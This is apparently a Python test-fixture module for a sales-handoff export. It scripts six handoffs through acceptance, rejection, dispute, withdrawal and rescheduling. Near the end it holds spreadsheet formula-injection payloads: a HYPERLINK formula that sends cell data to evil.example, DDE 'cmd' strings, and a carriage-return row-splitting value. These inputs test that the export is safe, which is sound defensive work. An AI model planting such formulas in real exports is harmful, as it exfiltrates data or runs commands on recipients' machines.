"""Handoffs made through the lifecycle, each with the record `handoff export` must write.

`build()` makes six handoffs (two SDRs, two AEs, two rubric versions, every kind of ending,
hostile text) and writes each one's expected record from the test's own inputs, never
read back through the repository.
"""

from __future__ import annotations

import tempfile
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from handoff import lifecycle
from handoff.config import load_config
from handoff.model import MeetingOutcome, Qualification, Score, Stakeholder
from handoff.scoring import score
from storage.db import session_scope
from storage.repository import SqlHandoffRepository
from tests.support.qualifications import NOW, qualification

MANAGERS = ("UMGR1",)
HOSTILE_COMMENT = 'Said "no budget", twice;\nthen: =SUM(A1) ✓ & <@U1>'
RUBRIC_2027 = """
[rubric]
version = "2027.1"
bar = 80
[rubric.account_fit.checks.compliance]
label = "Compliance environment"
counts = ["soc2", "hipaa"]
[rubric.account_fit.checks.compliance.choices]
soc2 = "SOC 2"
hipaa = "HIPAA"
none = "None or unknown"
"""


def z(at: datetime) -> str:
    """How the export must show a time: ISO 8601, UTC, to the second."""
    assert at.tzinfo is not None
    return at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")


@dataclass
class Built:
    """One handoff as the test made it, and what its export line must say."""

    sdr: str
    q: Qualification
    score: Score
    submitted: datetime
    expected: dict[str, Any] = field(default_factory=dict)
    id: int = 0


def _base(b: Built) -> dict[str, Any]:
    q = b.q
    return {
        "id": b.id,
        "team_id": "T1",
        "status": "pending",
        "sdr_id": b.sdr,
        "submitted_at": z(b.submitted),
        "posted_at": z(b.submitted + timedelta(minutes=1)),
        "edited_at": None,
        "updated_at": z(b.submitted + timedelta(minutes=1)),
        "company": q.company,
        "website": q.website,
        "meeting_at": z(q.meeting_at),
        "source": q.source,
        "notes": q.notes,
        "industry": q.industry,
        "company_size": q.company_size,
        "region": q.region,
        "fit_answers": dict(q.fit_answers),
        "contact_name": q.contact_name,
        "contact_title": q.contact_title,
        "contact_role": q.contact_role,
        "contact_email": q.contact_email,
        "stakeholders": [
            {"name": s.name, "title": s.title, "role": s.role} for s in q.stakeholders
        ],
        "pain": q.pain,
        "current_solution": q.current_solution,
        "trigger": q.trigger,
        "timing": q.timing,
        "budget_status": q.budget_status,
        "next_steps_status": q.next_steps_status,
        "next_steps": q.next_steps,
        "intent_signals": list(q.intent_signals),
        "rubric_version": b.score.rubric_version,
        "score": b.score.points,
        "clears_bar": b.score.clears_bar,
        "criteria": {
            r.key: {"met": r.met, "weight": r.weight, "must_meet": r.must_meet, "reason": r.reason}
            for r in b.score.results
        },
        "suggested_ae_id": None,
        "decided_by": None,
        "decided_at": None,
        "seconds_to_decision": None,
        "rejection_reason": None,
        "rejection_comment": None,
        "ae_id": None,
        "reassigned_ae_id": None,
        "reassigned_by": None,
        "reassigned_at": None,
        "dispute_status": None,
        "dispute_case": None,
        "disputed_at": None,
        "dispute_resolved_by": None,
        "dispute_resolved_at": None,
        "outcome": None,
        "outcome_by": None,
        "outcome_at": None,
        "rescheduled_to": None,
        "meeting_time": z(q.meeting_at),
        "seconds_to_outcome": None,
        "brief_channel": "CAE",
        "brief_ts": f"1.{b.id}",
    }


def build(sessions) -> list[Built]:
    """Two SDRs, two AEs, two rubric versions, every kind of ending, and hostile text."""
    v1 = load_config()
    v2 = _config_2027()
    h = NOW
    specs = [
        Built(
            "USDR1",
            qualification(
                company="Acme Robotics",
                intent_signals=("demo_request", "pricing_visits"),
                stakeholders=(
                    Stakeholder("Lee Park", "Plant IT lead", "champion"),
                    Stakeholder("Sam Roy", "Controller", None),
                ),
                website="acme.example",
                contact_email="dana@acme.example",
                trigger="A new plant opens in March.",
            ),
            Score(0, (), False, (), ""),
            h,
        ),
        Built(
            "USDR2",
            qualification(
                company='Globex, "Intl" – Ünïcode',
                source="inbound_demo",
                region="nordics",
                fit_answers={"compliance": "soc2"},
                notes="Line one\nline two, with a comma",
            ),
            Score(0, (), False, (), ""),
            h + timedelta(hours=1),
        ),
        Built(
            "USDR1",
            qualification(company="Initech", timing="later", stakeholders=()),
            Score(0, (), False, (), ""),
            h + timedelta(hours=2),
        ),
        Built(
            "USDR2",
            qualification(company="Umbrella", source="event", fit_answers={"compliance": "none"}),
            Score(0, (), False, (), ""),
            h + timedelta(hours=3),
        ),
        Built(
            "USDR1",
            qualification(company="Hooli", intent_signals=()),
            Score(0, (), False, (), ""),
            h + timedelta(hours=4),
        ),
        Built(
            "USDR2",
            qualification(company="Stark", meeting_at=NOW + timedelta(days=12)),
            Score(0, (), False, (), ""),
            h + timedelta(days=10),
        ),
    ]
    for i, b in enumerate(specs):
        b.score = score(b.q, v2 if i in (1, 3) else v1)
        with session_scope(sessions) as s:
            repo = SqlHandoffRepository(s)
            b.id = lifecycle.submit(
                repo,
                team_id="T1",
                sdr_id=b.sdr,
                qualification=b.q,
                score=b.score,
                submission_key=f"k{i}",
                now=b.submitted,
            ).handoff.id
            lifecycle.mark_posted(
                repo, b.id, channel="CAE", ts=f"1.{b.id}", now=b.submitted + timedelta(minutes=1)
            )
        b.expected = _base(b)
    acme, globex, initech, umbrella, _hooli, stark = specs

    def act(fn, *args, **kwargs):
        with session_scope(sessions) as s:
            result = fn(SqlHandoffRepository(s), *args, **kwargs)
        assert result.changed, result
        return result

    # Acme: accepted after 2 hours, held, opportunity created the day after the meeting.
    t = acme.submitted + timedelta(hours=2)
    act(lifecycle.accept, acme.id, actor="UAE1", is_ae=True, now=t)
    logged = acme.q.meeting_at + timedelta(days=1)
    act(
        lifecycle.log_outcome,
        acme.id,
        actor="UAE1",
        outcome=MeetingOutcome.HELD_OPPORTUNITY,
        managers=MANAGERS,
        now=logged,
    )
    acme.expected.update(
        status="accepted",
        decided_by="UAE1",
        decided_at=z(t),
        seconds_to_decision=7200,
        ae_id="UAE1",
        outcome="held_opportunity",
        outcome_by="UAE1",
        outcome_at=z(logged),
        seconds_to_outcome=86400,
        updated_at=z(logged),
    )

    # Globex: rejected with a hostile comment, disputed, overturned to the other AE.
    t = globex.submitted + timedelta(minutes=30)
    act(
        lifecycle.reject,
        globex.id,
        actor="UAE2",
        is_ae=True,
        reason="bad_fit",
        comment=HOSTILE_COMMENT,
        now=t,
    )
    case = "They run SOC 2; fit is fine.\nSee the call notes."
    d = t + timedelta(days=1)
    act(
        lifecycle.dispute,
        globex.id,
        actor="USDR2",
        case=case,
        managers=MANAGERS,
        now=d,
        window=timedelta(days=30),
    )
    r = d + timedelta(hours=5)
    act(
        lifecycle.resolve_dispute,
        globex.id,
        actor="UMGR1",
        overturn=True,
        to_ae="UAE1",
        managers=MANAGERS,
        now=r,
    )
    globex.expected.update(
        status="accepted",
        decided_by="UAE2",
        decided_at=z(t),
        seconds_to_decision=1800,
        rejection_reason="bad_fit",
        rejection_comment=HOSTILE_COMMENT,
        ae_id="UAE1",
        reassigned_ae_id="UAE1",
        reassigned_by="UMGR1",
        reassigned_at=z(r),
        dispute_status="overturned",
        dispute_case=case,
        disputed_at=z(d),
        dispute_resolved_by="UMGR1",
        dispute_resolved_at=z(r),
        updated_at=z(r),
    )

    # Initech: rejected without a comment, disputed, upheld.
    t = initech.submitted + timedelta(hours=26)
    act(
        lifecycle.reject,
        initech.id,
        actor="UAE1",
        is_ae=True,
        reason="bad_timing",
        comment="",
        now=t,
    )
    d, r = t + timedelta(hours=1), t + timedelta(hours=2)
    act(
        lifecycle.dispute,
        initech.id,
        actor="USDR1",
        case="Budget is approved for Q1.",
        managers=MANAGERS,
        now=d,
        window=timedelta(days=30),
    )
    act(
        lifecycle.resolve_dispute,
        initech.id,
        actor="UMGR1",
        overturn=False,
        managers=MANAGERS,
        now=r,
    )
    initech.expected.update(
        status="rejected",
        decided_by="UAE1",
        decided_at=z(t),
        seconds_to_decision=26 * 3600,
        rejection_reason="bad_timing",
        dispute_status="upheld",
        dispute_case="Budget is approved for Q1.",
        disputed_at=z(d),
        dispute_resolved_by="UMGR1",
        dispute_resolved_at=z(r),
        updated_at=z(r),
    )

    # Umbrella: withdrawn by its SDR.
    t = umbrella.submitted + timedelta(minutes=5)
    act(lifecycle.withdraw, umbrella.id, actor="USDR2", now=t)
    umbrella.expected.update(status="withdrawn", updated_at=z(t))

    # Hooli: still pending (as built).
    # Stark: accepted, then rescheduled to a later date.
    t = stark.submitted + timedelta(hours=1)
    act(lifecycle.accept, stark.id, actor="UAE2", is_ae=True, now=t)
    moved_at, new_date = t + timedelta(hours=1), NOW + timedelta(days=20)
    act(
        lifecycle.log_outcome,
        stark.id,
        actor="UAE2",
        outcome=MeetingOutcome.RESCHEDULED,
        managers=MANAGERS,
        now=moved_at,
        rescheduled_to=new_date,
    )
    stark.expected.update(
        status="accepted",
        decided_by="UAE2",
        decided_at=z(t),
        seconds_to_decision=3600,
        ae_id="UAE2",
        outcome="rescheduled",
        outcome_by="UAE2",
        outcome_at=z(moved_at),
        rescheduled_to=z(new_date),
        meeting_time=z(new_date),
        updated_at=z(moved_at),
    )
    return specs


def _config_2027():
    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "team.toml"
        path.write_text(RUBRIC_2027, encoding="utf-8")
        return load_config(path)


# What a spreadsheet would run: OWASP's examples, one per character a formula may start with.
FORMULAS = {
    "company": '=HYPERLINK("https://evil.example/?d="&A2,"x")',
    "contact_name": "+1 555 0100",
    "contact_title": "-2+3+cmd|' /C calc'!A0",
    "pain": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "\t=1+1",
    "next_steps": "\r=1+1",
    "website": "=1+1",
}


# A carriage return inside a cell: unquoted, a spreadsheet would start a row, then a formula.
SPLIT_ROW = "fine\r=1+1"


def build_formulas(sessions) -> int:
    """One handoff with a formula in every text field of FORMULAS; its id."""
    q = qualification(**FORMULAS, trigger=SPLIT_ROW)
    with session_scope(sessions) as s:
        return lifecycle.submit(
            SqlHandoffRepository(s),
            team_id="T1",
            sdr_id="USDR1",
            qualification=q,
            score=score(q, load_config()),
            submission_key="formulas",
            now=NOW,
        ).handoff.id
